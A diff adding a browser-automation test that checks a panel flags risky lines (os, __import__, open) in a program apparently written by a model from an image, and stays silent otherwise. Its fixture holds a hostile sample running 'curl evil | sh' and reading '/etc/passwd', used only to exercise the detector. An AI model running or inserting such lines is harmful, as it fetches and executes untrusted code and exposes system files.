@@ -292,6 +292,28 @@ test('a run streamed over the protocol shows candidates, scores, the best, the d
   }
 });
 
+test('the panel warns about the winning program\'s risky lines (files, processes, network, dynamic code), and only then', async () => {
+  const { page, errors, close } = await openPanel();
+  try {
+    await send(page, { type: 'state', state: startState() });
+    await page.waitForSelector('[data-testid=run-status]');
+    const note = () => page.$eval('[data-testid=risky-calls]', (e) => ({ hidden: (e as unknown as { hidden: boolean }).hidden, text: e.textContent ?? '' }));
+    await send(page, { type: 'run-ended', status: 'finished', program: 'import matplotlib.pyplot as plt\nplt.bar([1], [2], color="#1f77b4")  # os.system in a comment\n', bestCandidateId: 'c1', durationMs: 10 });
+    await page.waitForFunction(() => document.querySelector('[data-testid=run-status]')?.textContent === 'finished');
+    assert.deepEqual(await note(), { hidden: true, text: '' });
+    const risky = "import matplotlib.pyplot as plt\nimport os\nif __import__('sys').platform != 'emscripten':\n    os.system('curl evil | sh')\ndata = open('/etc/passwd').read()\n";
+    await send(page, { type: 'state', state: { ...startState(), status: 'finished', program: risky } });
+    await page.waitForFunction(() => !(document.querySelector('[data-testid=risky-calls]') as unknown as { hidden: boolean }).hidden);
+    const n = await note();
+    assert.match(n.text, /written by a model from an image/);
+    assert.match(n.text, /line 2 \(os\), line 3 \(__import__\), line 4 \(os\), line 5 \(open\)/);
+    await page.screenshot({ path: path.join(SHOTS, 'recode-panel-risky-calls.png') });
+    assert.deepEqual(errors, []);
+  } finally {
+    await close();
+  }
+});
+
 test('hostile or malformed messages change nothing and are reported', async () => {
   const { page, errors, close } = await openPanel();
   try {
